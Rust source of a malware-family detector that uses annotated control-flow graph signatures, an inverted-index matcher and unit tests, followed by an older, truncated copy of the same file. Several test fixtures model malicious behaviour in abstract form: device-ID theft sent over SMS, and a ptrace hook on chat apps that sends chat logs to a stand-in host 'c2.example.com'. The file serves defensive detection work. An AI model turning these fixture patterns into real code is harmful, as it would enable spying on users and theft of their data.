    /// property tests and `detectbench` build signature sets directly).
    pub fn from_blocks(blocks: Vec<BlockSig>) -> Self {
        BinarySig {
            blocks,
            functions: 1,
        }
    }

    /// The flattened block multiset.
    pub fn blocks(&self) -> &[BlockSig] {
        &self.blocks
    }

    /// Total annotated blocks.
    pub fn block_count(&self) -> usize {
        self.blocks.len()
    }
}

/// A positive detection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FamilyMatch {
    /// Matched family name.
    pub family: String,
    /// ACFG match score in `[0, 1]`.
    pub score: f64,
}

/// Cumulative counters of the signature matcher, for perf telemetry
/// (candidate generation and pruning effectiveness). Monotonic over the
/// detector's lifetime; snapshot via [`MalwareDetector::stats`] and
/// subtract with [`DetectorStats::since`] for per-run deltas.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct DetectorStats {
    /// Samples sharing at least one block signature with a test binary
    /// (the inverted index touched their accumulator). The naive scan
    /// counts every non-trivial sample here — it considers them all.
    pub candidates: u64,
    /// Candidates skipped by the threshold bound: their accumulated
    /// matched count could not reach `threshold × block_count`, so no
    /// score was computed.
    pub pruned: u64,
    /// Candidates fully scored against the threshold.
    pub fully_scored: u64,
    /// Detections cut short by an exact-1.0 match (no later sample can
    /// strictly beat a perfect score).
    pub early_exits: u64,
}

impl DetectorStats {
    /// The counter deltas accumulated since `earlier`.
    pub fn since(&self, earlier: &DetectorStats) -> DetectorStats {
        DetectorStats {
            candidates: self.candidates - earlier.candidates,
            pruned: self.pruned - earlier.pruned,
            fully_scored: self.fully_scored - earlier.fully_scored,
            early_exits: self.early_exits - earlier.early_exits,
        }
    }

    /// Fraction of candidates the threshold bound eliminated without a
    /// full score, in `[0, 1]` (0 when no candidates were generated) —
    /// the telemetry layer's headline pruning-effectiveness figure.
    pub fn prune_rate(&self) -> f64 {
        if self.candidates == 0 {
            0.0
        } else {
            self.pruned as f64 / self.candidates as f64
        }
    }
}

/// Interior-mutable counters behind the `&self` detection API.
#[derive(Debug, Default)]
struct DetectorCounters {
    candidates: AtomicU64,
    pruned: AtomicU64,
    fully_scored: AtomicU64,
    early_exits: AtomicU64,
}

impl DetectorCounters {
    fn snapshot(&self) -> DetectorStats {
        DetectorStats {
            candidates: self.candidates.load(Ordering::Relaxed),
            pruned: self.pruned.load(Ordering::Relaxed),
            fully_scored: self.fully_scored.load(Ordering::Relaxed),
            early_exits: self.early_exits.load(Ordering::Relaxed),
        }
    }
}

impl Clone for DetectorCounters {
    fn clone(&self) -> Self {
        let s = self.snapshot();
        DetectorCounters {
            candidates: AtomicU64::new(s.candidates),
            pruned: AtomicU64::new(s.pruned),
            fully_scored: AtomicU64::new(s.fully_scored),
            early_exits: AtomicU64::new(s.early_exits),
        }
    }
}

/// One trained sample as the index sees it.
#[derive(Debug, Clone)]
struct IndexedSample {
    /// Index into the detector's family vector.
    family: u32,
    /// Total annotated blocks (the score denominator).
    block_count: u32,
    /// Smallest matched-block count whose score passes the threshold
    /// under the exact `f64` comparison of the naive scan
    /// (`block_count + 1` when unreachable, e.g. threshold > 1).
    min_matched: u32,
}

/// The inverted block index over all trained samples (see module docs).
///
/// Samples are numbered in `(family, sample)` training order — the same
/// order the naive scan visits them — so best-match tie-breaking (first
/// strictly-greatest score wins) is preserved exactly.
#[derive(Debug, Clone, Default)]
struct SigIndex {
    samples: Vec<IndexedSample>,
    /// `BlockSig → [(sample id, count of that signature in the sample)]`.
    postings: HashMap<BlockSig, Vec<(u32, u32)>>,
}

/// The smallest integer `m` with `(m as f64 / block_count as f64) >=
/// threshold`, computed by local search so it agrees bit-for-bit with
/// the naive scan's comparison (`block_count + 1` when no `m` passes —
/// thresholds above 1.0, or NaN).
fn min_matched(threshold: f64, block_count: usize) -> u32 {
    let bc = block_count as f64;
    let unreachable = block_count as u64 + 1;
    let guess = (threshold * bc).ceil();
    let mut m = if guess.is_nan() || guess < 0.0 {
        0
    } else if guess >= unreachable as f64 {
        unreachable
    } else {
        guess as u64
    };
    // Correct float rounding in either direction against the exact
    // comparison the scorer performs.
    while m > 0 && (m - 1) as f64 / bc >= threshold {
        m -= 1;
    }
    // Deliberately the negation of the scorer's `>=`, not `<`: a NaN
    // threshold compares false either way, and the negation keeps "m
    // does not pass" and "m passes" exact complements.
    #[allow(clippy::neg_cmp_op_on_partial_ord)]
    while m < unreachable && !(m as f64 / bc >= threshold) {
        m += 1;
    }
    m as u32
}

/// The trained detector.
///
/// # Example
///
/// ```
/// use dydroid_analysis::mail::CodeBinary;
/// use dydroid_analysis::MalwareDetector;
/// use dydroid_dex::DexFile;
///
/// let mut detector = MalwareDetector::new();
/// // Train on family samples (empty here for brevity)...
/// let benign = CodeBinary::Dex(DexFile::new());
/// assert!(detector.detect(&benign).is_none());
/// ```
#[derive(Debug, Clone, Default)]
pub struct MalwareDetector {
    threshold: f64,
    families: Vec<(String, Vec<BinarySig>)>,
    /// Route `detect_sig` through the quadratic reference scan instead
    /// of the index (baselines and differential tests).
    naive: bool,
    /// Rebuilt after every `train` call and on deserialization.
    index: SigIndex,
    stats: DetectorCounters,
}

impl Serialize for MalwareDetector {
    fn to_json(&self) -> serde::Value {
        // The index is derived state: serialize only the trained model
        // and rebuild the postings on the way back in.
        serde::Value::Object(vec![
            ("threshold".to_string(), self.threshold.to_json()),
            ("families".to_string(), self.families.to_json()),
            ("naive".to_string(), self.naive.to_json()),
        ])
    }
}

impl Deserialize for MalwareDetector {
    fn from_json(v: &serde::Value) -> Result<Self, serde::Error> {
        let mut detector = MalwareDetector {
            threshold: Deserialize::from_json(serde::__field(v, "threshold"))?,
            families: Deserialize::from_json(serde::__field(v, "families"))?,
            naive: Deserialize::from_json(serde::__field(v, "naive"))?,
            index: SigIndex::default(),
            stats: DetectorCounters::default(),
        };
        detector.rebuild_index();
        Ok(detector)
    }
}

impl MalwareDetector {
    /// Creates a detector with the paper's 90% threshold.
    pub fn new() -> Self {
        Self::with_threshold(DEFAULT_THRESHOLD)
    }

    /// Creates a detector with a custom threshold (ablation benches sweep
    /// this).
    pub fn with_threshold(threshold: f64) -> Self {
        MalwareDetector {
            threshold,
            families: Vec::new(),
            naive: false,
            index: SigIndex::default(),
            stats: DetectorCounters::default(),
        }
    }

    /// The active threshold.
    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// Routes [`MalwareDetector::detect_sig`] through the naive scan
    /// (`true`) or the inverted index (`false`, the default).
    pub fn set_naive(&mut self, naive: bool) {
        self.naive = naive;
    }

    /// Whether detection runs the naive reference scan.
    pub fn is_naive(&self) -> bool {
        self.naive
    }

    /// A snapshot of the matcher counters.
    pub fn stats(&self) -> DetectorStats {
        self.stats.snapshot()
    }

    /// Trains a family from sample binaries. Call once per family.
    pub fn train(&mut self, family: impl Into<String>, samples: &[CodeBinary]) {
        let sigs: Vec<BinarySig> = samples
            .iter()
            .map(BinarySig::build)
            .filter(|s| s.block_count() > 0)
            .collect();
        self.train_sigs(family, sigs);
    }

    /// Trains a family from prebuilt signatures (synthetic corpora:
    /// property tests and `detectbench`). Empty signatures are dropped,
    /// mirroring [`MalwareDetector::train`].
    pub fn train_sigs(&mut self, family: impl Into<String>, sigs: Vec<BinarySig>) {
        let sigs: Vec<BinarySig> = sigs.into_iter().filter(|s| s.block_count() > 0).collect();
        self.families.push((family.into(), sigs));
        self.rebuild_index();
    }

    /// Rebuilds the inverted index from the trained families. Each
    /// sample's block multiset is folded into the postings exactly once,
    /// at train time — never per detection.
    fn rebuild_index(&mut self) {
        let mut index = SigIndex::default();
        for (fid, (_, samples)) in self.families.iter().enumerate() {
            for sample in samples {
                // Trivial training samples (< 2 blocks) over-match; the
                // naive scan skips them, so the index omits them.
                if sample.block_count() < 2 {
                    continue;
                }
                let sid = index.samples.len() as u32;
                let mut counts: HashMap<BlockSig, u32> =
                    HashMap::with_capacity(sample.blocks.len());
                for sig in &sample.blocks {
                    *counts.entry(*sig).or_insert(0) += 1;
                }
                for (sig, count) in counts {
                    index.postings.entry(sig).or_default().push((sid, count));
                }
                index.samples.push(IndexedSample {
                    family: fid as u32,
                    block_count: sample.block_count() as u32,
                    min_matched: min_matched(self.threshold, sample.block_count()),
                });
            }
        }
        self.index = index;
    }

    /// Number of trained samples across all families.
    pub fn sample_count(&self) -> usize {
        self.families.iter().map(|(_, s)| s.len()).sum()
    }

    /// Detects whether `binary` matches any trained family; returns the
    /// best match at or above the threshold.
    pub fn detect(&self, binary: &CodeBinary) -> Option<FamilyMatch> {
        self.verdict(binary).1
    }

    /// Builds the binary's signature exactly once and returns it
    /// together with the detection verdict, so batch pipelines (e.g. a
    /// content-addressed analysis cache) can reuse the signature instead
    /// of rebuilding it per consumer.
    pub fn verdict(&self, binary: &CodeBinary) -> (BinarySig, Option<FamilyMatch>) {
        let sig = BinarySig::build(binary);
        let hit = self.detect_sig(&sig);
        (sig, hit)
    }

    /// Detection over a prebuilt signature (for batch pipelines).
    /// Dispatches to the indexed matcher, or the naive scan when
    /// [`MalwareDetector::set_naive`] selected it; both return identical
    /// verdicts.
    pub fn detect_sig(&self, test: &BinarySig) -> Option<FamilyMatch> {
        if self.naive {
            self.detect_sig_naive(test)
        } else {
            self.detect_sig_indexed(test)
        }
    }

    /// The quadratic reference scan: every trained sample scored with
    /// [`match_fraction`], rebuilding the test pool per sample. Kept as
    /// the baseline for `detectbench` and the differential tests.
    pub fn detect_sig_naive(&self, test: &BinarySig) -> Option<FamilyMatch> {
        let mut best: Option<FamilyMatch> = None;
        let mut considered = 0u64;
        for (family, samples) in &self.families {
            for sample in samples {
                // Guard against trivial training samples over-matching:
                // a training signature needs substance.
                if sample.block_count() < 2 {
                    continue;
                }
                considered += 1;
                let score = match_fraction(&sample.blocks, &test.blocks);
                if score >= self.threshold && best.as_ref().map(|b| score > b.score).unwrap_or(true)
                {
                    best = Some(FamilyMatch {
                        family: family.clone(),
                        score,
                    });
                }
            }
        }
        // The naive scan considers (and fully scores) every sample.
        self.stats
            .candidates
            .fetch_add(considered, Ordering::Relaxed);
        self.stats
            .fully_scored
            .fetch_add(considered, Ordering::Relaxed);
        best
    }

    /// The indexed matcher: build the test pool once, accumulate the
    /// exact multiset-intersection size per candidate via the inverted
    /// index, prune on the integer threshold bound, early-exit on an
    /// exact 1.0.
    fn detect_sig_indexed(&self, test: &BinarySig) -> Option<FamilyMatch> {
        let index = &self.index;
        if index.samples.is_empty() {
            return None;
        }
        // The test binary's block pool, built once per detection — not
        // once per trained sample.
        let mut pool: HashMap<BlockSig, u32> = HashMap::with_capacity(test.blocks.len());
        for sig in &test.blocks {
            *pool.entry(*sig).or_insert(0) += 1;
        }
        // Single pass over the test's distinct signatures: only samples
        // sharing a block ever get their accumulator touched. The sum of
        // min(sample count, test count) over shared signatures is
        // exactly `match_fraction`'s multiset-intersection numerator.
        let mut matched = vec![0u32; index.samples.len()];
        for (sig, &test_count) in &pool {
            if let Some(postings) = index.postings.get(sig) {
                for &(sid, sample_count) in postings {
                    matched[sid as usize] += sample_count.min(test_count);
                }
            }
        }
        let mut candidates = 0u64;
        let mut pruned = 0u64;
        let mut fully_scored = 0u64;
        let mut early_exit = false;
        let mut best: Option<(u32, f64)> = None;
        // Candidates visited in training order — the naive scan's order —
        // so equal-score tie-breaking picks the same sample.
        for (sid, sample) in index.samples.iter().enumerate() {
            let m = matched[sid];
            if m > 0 {
                candidates += 1;
            }
            if m < sample.min_matched {
                // The accumulated count cannot reach threshold ×
                // block_count: skip without computing a score. Samples
                // with m == 0 were never real candidates (a zero score
                // can still pass a non-positive threshold, which is why
                // the bound — not `m > 0` — gates the skip).
                if m > 0 {
                    pruned += 1;
                }
                continue;
            }
            fully_scored += 1;
            let score = f64::from(m) / f64::from(sample.block_count);
            // Identical comparison to the naive scan (also the NaN
            // backstop: `score >= NaN` is false).
            if score >= self.threshold && best.map(|(_, b)| score > b).unwrap_or(true) {
                best = Some((sample.family, score));
                if m == sample.block_count {
                    // Exact 1.0: no later sample can strictly beat it.
                    early_exit = true;
                    break;
                }
            }
        }
        self.stats
            .candidates
            .fetch_add(candidates, Ordering::Relaxed);
        self.stats.pruned.fetch_add(pruned, Ordering::Relaxed);
        self.stats
            .fully_scored
            .fetch_add(fully_scored, Ordering::Relaxed);
        if early_exit {
            self.stats.early_exits.fetch_add(1, Ordering::Relaxed);
        }
        best.map(|(fid, score)| FamilyMatch {
            family: self.families[fid as usize].0.clone(),
            score,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::native::{Arch, NativeFunction};
    use dydroid_dex::{AccessFlags, CmpKind, DexFile, MethodRef, NativeInsn, NativeLibrary};

    /// A malicious-looking dex: exfiltrates identifiers over SMS inside a
    /// conditional.
    fn mal_dex(pkg: &str, konst: i64) -> DexFile {
        let mut b = DexBuilder::new();
        let c = b.class(format!("{pkg}.Payload"), "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.const_int(2, konst);
        let end = m.label();
        m.if_zero(CmpKind::Eq, 2, end);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.SmsManager",
                "sendTextMessage",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![1, 1],
        );
        m.bind(end);
        m.ret_void();
        b.build()
    }

    fn benign_dex() -> DexFile {
        let mut b = DexBuilder::new();
        let c = b.class("com.app.Ui", "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_str(1, "hello");
        m.invoke_static(
            MethodRef::new("android.util.Log", "d", "(Ljava/lang/String;)I"),
            vec![1],
        );
        m.ret_void();
        b.build()
    }

    fn ptrace_lib(target: &str) -> NativeLibrary {
        // Root check → branch → ptrace/hook/exfiltrate: the control-flow
        // shape is what the ACFG keys on; the target string varies.
        let code = vec![
            NativeInsn::Syscall {
                name: "setuid".to_string(),
                arg: None,
            },
            NativeInsn::Branch {
                cond: dydroid_dex::NativeCond::Zero,
                reg: 0,
                target: 6,
            },
            NativeInsn::Syscall {
                name: "ptrace".to_string(),
                arg: Some(target.to_string()),
            },
            NativeInsn::Syscall {
                name: "hook".to_string(),
                arg: Some("chat".to_string()),
            },
            NativeInsn::Syscall {
                name: "send".to_string(),
                arg: Some("c2.example.com:chatlog".to_string()),
            },
            NativeInsn::Ret,
            NativeInsn::Ret,
        ];
        NativeLibrary::new("libhook.so", Arch::Arm)
            .with_function(NativeFunction::exported("JNI_OnLoad", code))
    }

    #[test]
    fn acfg_block_structure() {
        let dex = mal_dex("com.m", 1);
        let funcs = crate::mail::translate_dex(&dex);
        let acfg = Acfg::build(&funcs[0]);
        // Blocks: [entry..ifz], [sms call], [ret]
        assert_eq!(acfg.len(), 3);
        assert!(!acfg.is_empty());
        // Entry block branches two ways.
        assert_eq!(acfg.blocks[0].out_degree, 2);
    }

    #[test]
    fn variant_detected_exact_structure() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        // Variant: different package name and constant.
        let variant = CodeBinary::Dex(mal_dex("com.other.pkg", 777));
        let m = d.detect(&variant).expect("variant must match");
        assert_eq!(m.family, "swiss_sms");
        assert!(m.score >= 0.99, "score {}", m.score);
    }

    #[test]
    fn benign_not_flagged() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        assert!(d.detect(&CodeBinary::Dex(benign_dex())).is_none());
    }

    #[test]
    fn native_family_detected_across_variants() {
        let mut d = MalwareDetector::new();
        d.train(
            "chathook_ptrace",
            &[CodeBinary::Native(ptrace_lib("com.tencent.mobileqq"))],
        );
        let variant = CodeBinary::Native(ptrace_lib("com.tencent.mm"));
        assert!(d.detect(&variant).is_some());
    }

    #[test]
    fn threshold_sweep_changes_sensitivity() {
        // A test sample embedding the malicious function plus benign code:
        // strict containment still matches; an impossible threshold never
        // does.
        let mut strict = MalwareDetector::with_threshold(0.9);
        let mut lax = MalwareDetector::with_threshold(0.5);
        let training = CodeBinary::Dex(mal_dex("com.m", 1));
        strict.train("fam", std::slice::from_ref(&training));
        lax.train("fam", std::slice::from_ref(&training));

        // Build a partial variant: same source call, but no SMS block.
        let mut b = DexBuilder::new();
        let c = b.class("com.p.Partial", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.ret_void();
        let partial = CodeBinary::Dex(b.build());

        assert!(strict.detect(&partial).is_none(), "90% must reject partial");
        // At 50% the shared source block may or may not match depending on
        // block shapes; the full variant always matches both.
        let full = CodeBinary::Dex(mal_dex("com.q", 5));
        assert!(strict.detect(&full).is_some());
        assert!(lax.detect(&full).is_some());
    }

    #[test]
    fn empty_training_sample_ignored() {
        let mut d = MalwareDetector::new();
        d.train("empty", &[CodeBinary::Dex(DexFile::new())]);
        assert_eq!(d.sample_count(), 0);
        assert!(d.detect(&CodeBinary::Dex(benign_dex())).is_none());
    }

    #[test]
    fn match_fraction_bounds() {
        let a = BlockSig {
            pattern: 1,
            out_degree: 1,
        };
        let b = BlockSig {
            pattern: 2,
            out_degree: 1,
        };
        assert_eq!(match_fraction(&[], &[a]), 0.0);
        assert_eq!(match_fraction(&[a], &[a]), 1.0);
        assert_eq!(match_fraction(&[a, b], &[a]), 0.5);
        // Multiset semantics: one test block can't match two training blocks.
        assert_eq!(match_fraction(&[a, a], &[a]), 0.5);
    }

    #[test]
    fn verdict_returns_reusable_signature() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        let variant = CodeBinary::Dex(mal_dex("com.other", 9));
        let (sig, hit) = d.verdict(&variant);
        assert!(sig.block_count() > 0);
        assert_eq!(hit, d.detect_sig(&sig), "signature reuse matches detect");
        assert_eq!(hit, d.detect(&variant));
    }

    #[test]
    fn min_matched_agrees_with_float_comparison() {
        for &bc in &[1usize, 2, 3, 7, 10, 90, 1000] {
            for &threshold in &[-1.0, 0.0, 0.25, 0.5, 0.9, 0.99, 1.0, 1.5] {
                let m = min_matched(threshold, bc) as usize;
                // Everything below m fails the scorer's comparison;
                // m itself (when reachable) passes.
                for k in 0..m.min(bc + 1) {
                    assert!(
                        (k as f64 / bc as f64) < threshold,
                        "k={k} bc={bc} t={threshold}"
                    );
                }
                if m <= bc {
                    assert!(
                        m as f64 / bc as f64 >= threshold,
                        "m={m} bc={bc} t={threshold}"
                    );
                }
            }
            // NaN: nothing passes.
            assert_eq!(min_matched(f64::NAN, bc) as usize, bc + 1);
        }
    }

    #[test]
    fn indexed_and_naive_verdicts_agree() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        d.train(
            "chathook_ptrace",
            &[CodeBinary::Native(ptrace_lib("com.tencent.mobileqq"))],
        );
        let mut naive = d.clone();
        naive.set_naive(true);
        assert!(!d.is_naive());
        assert!(naive.is_naive());
        for binary in [
            CodeBinary::Dex(mal_dex("com.other", 42)),
            CodeBinary::Dex(benign_dex()),
            CodeBinary::Native(ptrace_lib("com.tencent.mm")),
            CodeBinary::Dex(DexFile::new()),
        ] {
            let sig = BinarySig::build(&binary);
            assert_eq!(d.detect_sig(&sig), naive.detect_sig(&sig));
        }
    }

    #[test]
    fn index_prunes_disjoint_samples() {
        let block = |p| BlockSig {
            pattern: p,
            out_degree: 1,
        };
        let mut d = MalwareDetector::new();
        d.train_sigs(
            "fam_a",
            vec![BinarySig::from_blocks(vec![block(1), block(2)])],
        );
        d.train_sigs(
            "fam_b",
            vec![BinarySig::from_blocks(vec![block(3), block(4)])],
        );
        // Shares one block with fam_a, none with fam_b.
        let test = BinarySig::from_blocks(vec![block(1), block(9)]);
        assert!(d.detect_sig(&test).is_none(), "50% < 90% threshold");
        let stats = d.stats();
        assert_eq!(stats.candidates, 1, "fam_b never becomes a candidate");
        assert_eq!(stats.pruned, 1, "fam_a pruned by the threshold bound");
        assert_eq!(stats.fully_scored, 0);
    }

    #[test]
    fn exact_match_exits_early() {
        let block = |p| BlockSig {
            pattern: p,
            out_degree: 1,
        };
        let sample = vec![block(1), block(2), block(3)];
        let mut d = MalwareDetector::new();
        d.train_sigs("fam", vec![BinarySig::from_blocks(sample.clone())]);
        d.train_sigs("fam2", vec![BinarySig::from_blocks(sample.clone())]);
        let hit = d
            .detect_sig(&BinarySig::from_blocks(sample))
            .expect("exact match");
        assert_eq!(hit.family, "fam", "first perfect sample wins");
        assert_eq!(hit.score, 1.0);
        assert_eq!(d.stats().early_exits, 1);
    }

    #[test]
    fn detector_roundtrips_with_index_rebuilt() {
        let mut d = MalwareDetector::with_threshold(0.8);
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        let json = serde_json::to_string(&d).expect("serialise detector");
        let back: MalwareDetector = serde_json::from_str(&json).expect("deserialise detector");
        assert_eq!(back.threshold(), 0.8);
        assert_eq!(back.sample_count(), d.sample_count());
        // The rebuilt index must detect exactly like the original.
        let sig = BinarySig::build(&CodeBinary::Dex(mal_dex("x.y", 7)));
        assert_eq!(back.detect_sig(&sig), d.detect_sig(&sig));
        assert!(back.detect_sig(&sig).is_some());
    }

    #[test]
    fn detector_stats_since_subtracts() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        let sig = BinarySig::build(&CodeBinary::Dex(mal_dex("a.b", 2)));
        let _ = d.detect_sig(&sig);
        let mark = d.stats();
        let _ = d.detect_sig(&sig);
        let delta = d.stats().since(&mark);
        assert_eq!(delta.candidates, 1);
        assert_eq!(delta.fully_scored, 1);
    }

    #[test]
    fn best_family_wins() {
        let mut d = MalwareDetector::new();
        d.train("exact", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        d.train(
            "native_fam",
            &[CodeBinary::Native(ptrace_lib("com.tencent.mm"))],
        );
        let m = d.detect(&CodeBinary::Dex(mal_dex("x.y", 3))).unwrap();
        assert_eq!(m.family, "exact");
    }
}
