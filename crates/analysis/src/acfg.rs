//! Annotated control-flow graphs and the DroidNative-like matcher.
//!
//! Each MAIL function becomes an [`Acfg`]: basic blocks annotated with a
//! pattern signature (the hash of the block's statement sequence plus its
//! out-degree). Detection is subgraph matching against trained family
//! signatures: a test binary is flagged when, for some training sample,
//! at least `threshold` (default 90%, as in the paper) of the training
//! sample's annotated blocks have a parallel match in the test binary.

use std::collections::hash_map::DefaultHasher;
use std::collections::HashMap;
use std::hash::{Hash, Hasher};

use serde::{Deserialize, Serialize};

use crate::mail::{CodeBinary, MailFunction};

/// The default match threshold from the paper (≥ 90% ACFG match).
pub const DEFAULT_THRESHOLD: f64 = 0.9;

/// A basic block's annotation: a stable hash of its MAIL statement
/// sequence, plus its out-degree in the CFG.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct BlockSig {
    /// Hash of the statement sequence.
    pub pattern: u64,
    /// Number of CFG successors.
    pub out_degree: u8,
}

/// An annotated CFG for one function.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Acfg {
    /// Function identifier.
    pub name: String,
    /// One signature per basic block.
    pub blocks: Vec<BlockSig>,
}

impl Acfg {
    /// Builds the ACFG of a MAIL function.
    pub fn build(func: &MailFunction) -> Self {
        let code = &func.code;
        let n = code.len();
        // Leaders: entry, every branch target, every instruction after a
        // control transfer.
        let mut is_leader = vec![false; n.max(1)];
        if n > 0 {
            is_leader[0] = true;
        }
        for (i, insn) in code.iter().enumerate() {
            if let Some(t) = insn.target {
                if (t as usize) < n {
                    is_leader[t as usize] = true;
                }
            }
            if (insn.target.is_some() || !insn.falls_through) && i + 1 < n {
                is_leader[i + 1] = true;
            }
        }
        // Block spans.
        let mut starts: Vec<usize> = (0..n).filter(|&i| is_leader[i]).collect();
        starts.push(n);
        let mut block_of = vec![0usize; n];
        for w in 0..starts.len().saturating_sub(1) {
            block_of[starts[w]..starts[w + 1]].fill(w);
        }
        let block_count = starts.len().saturating_sub(1);
        // Successors.
        let mut succs: Vec<Vec<usize>> = vec![Vec::new(); block_count];
        for w in 0..block_count {
            let last = starts[w + 1] - 1;
            let insn = &code[last];
            if let Some(t) = insn.target {
                if (t as usize) < n {
                    let tb = block_of[t as usize];
                    if !succs[w].contains(&tb) {
                        succs[w].push(tb);
                    }
                }
            }
            if insn.falls_through && last + 1 < n {
                let nb = block_of[last + 1];
                if !succs[w].contains(&nb) {
                    succs[w].push(nb);
                }
            }
        }
        // Signatures.
        let mut blocks = Vec::with_capacity(block_count);
        for w in 0..block_count {
            let mut hasher = DefaultHasher::new();
            for insn in &code[starts[w]..starts[w + 1]] {
                insn.stmt.hash(&mut hasher);
            }
            blocks.push(BlockSig {
                pattern: hasher.finish(),
                out_degree: succs[w].len().min(255) as u8,
            });
        }
        Acfg {
            name: func.name.clone(),
            blocks,
        }
    }

    /// Number of blocks.
    pub fn len(&self) -> usize {
        self.blocks.len()
    }

    /// Whether the graph is empty.
    pub fn is_empty(&self) -> bool {
        self.blocks.is_empty()
    }
}

/// Fraction of `training`'s blocks with a parallel match in `test`
/// (multiset containment over block signatures).
pub fn match_fraction(training: &[BlockSig], test: &[BlockSig]) -> f64 {
    if training.is_empty() {
        return 0.0;
    }
    let mut pool: HashMap<BlockSig, usize> = HashMap::new();
    for sig in test {
        *pool.entry(*sig).or_insert(0) += 1;
    }
    let mut matched = 0usize;
    for sig in training {
        if let Some(count) = pool.get_mut(sig) {
            if *count > 0 {
                *count -= 1;
                matched += 1;
            }
        }
    }
    matched as f64 / training.len() as f64
}

/// A whole binary's signature: the flattened block multiset of all its
/// function ACFGs (weighted subgraph matching across functions).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BinarySig {
    blocks: Vec<BlockSig>,
    functions: usize,
}

impl BinarySig {
    /// Builds the signature of a binary.
    pub fn build(binary: &CodeBinary) -> Self {
        let funcs = binary.to_mail();
        let acfgs: Vec<Acfg> = funcs.iter().map(Acfg::build).collect();
        let blocks: Vec<BlockSig> = acfgs.iter().flat_map(|a| a.blocks.clone()).collect();
        BinarySig {
            blocks,
            functions: acfgs.len(),
        }
    }

    /// Total annotated blocks.
    pub fn block_count(&self) -> usize {
        self.blocks.len()
    }
}

/// A positive detection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FamilyMatch {
    /// Matched family name.
    pub family: String,
    /// ACFG match score in `[0, 1]`.
    pub score: f64,
}

/// The trained detector.
///
/// # Example
///
/// ```
/// use dydroid_analysis::mail::CodeBinary;
/// use dydroid_analysis::MalwareDetector;
/// use dydroid_dex::DexFile;
///
/// let mut detector = MalwareDetector::new();
/// // Train on family samples (empty here for brevity)...
/// let benign = CodeBinary::Dex(DexFile::new());
/// assert!(detector.detect(&benign).is_none());
/// ```
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct MalwareDetector {
    threshold: f64,
    families: Vec<(String, Vec<BinarySig>)>,
}

impl MalwareDetector {
    /// Creates a detector with the paper's 90% threshold.
    pub fn new() -> Self {
        MalwareDetector {
            threshold: DEFAULT_THRESHOLD,
            families: Vec::new(),
        }
    }

    /// Creates a detector with a custom threshold (ablation benches sweep
    /// this).
    pub fn with_threshold(threshold: f64) -> Self {
        MalwareDetector {
            threshold,
            families: Vec::new(),
        }
    }

    /// The active threshold.
    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// Trains a family from sample binaries. Call once per family.
    pub fn train(&mut self, family: impl Into<String>, samples: &[CodeBinary]) {
        let sigs: Vec<BinarySig> = samples
            .iter()
            .map(BinarySig::build)
            .filter(|s| s.block_count() > 0)
            .collect();
        self.families.push((family.into(), sigs));
    }

    /// Number of trained samples across all families.
    pub fn sample_count(&self) -> usize {
        self.families.iter().map(|(_, s)| s.len()).sum()
    }

    /// Detects whether `binary` matches any trained family; returns the
    /// best match at or above the threshold.
    pub fn detect(&self, binary: &CodeBinary) -> Option<FamilyMatch> {
        self.verdict(binary).1
    }

    /// Builds the binary's signature exactly once and returns it
    /// together with the detection verdict, so batch pipelines (e.g. a
    /// content-addressed analysis cache) can reuse the signature instead
    /// of rebuilding it per consumer.
    pub fn verdict(&self, binary: &CodeBinary) -> (BinarySig, Option<FamilyMatch>) {
        let sig = BinarySig::build(binary);
        let hit = self.detect_sig(&sig);
        (sig, hit)
    }

    /// Detection over a prebuilt signature (for batch pipelines).
    pub fn detect_sig(&self, test: &BinarySig) -> Option<FamilyMatch> {
        let mut best: Option<FamilyMatch> = None;
        for (family, samples) in &self.families {
            for sample in samples {
                // Guard against trivial training samples over-matching:
                // a training signature needs substance.
                if sample.block_count() < 2 {
                    continue;
                }
                let score = match_fraction(&sample.blocks, &test.blocks);
                if score >= self.threshold && best.as_ref().map(|b| score > b.score).unwrap_or(true)
                {
                    best = Some(FamilyMatch {
                        family: family.clone(),
                        score,
                    });
                }
            }
        }
        best
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::native::{Arch, NativeFunction};
    use dydroid_dex::{AccessFlags, CmpKind, DexFile, MethodRef, NativeInsn, NativeLibrary};

    /// A malicious-looking dex: exfiltrates identifiers over SMS inside a
    /// conditional.
    fn mal_dex(pkg: &str, konst: i64) -> DexFile {
        let mut b = DexBuilder::new();
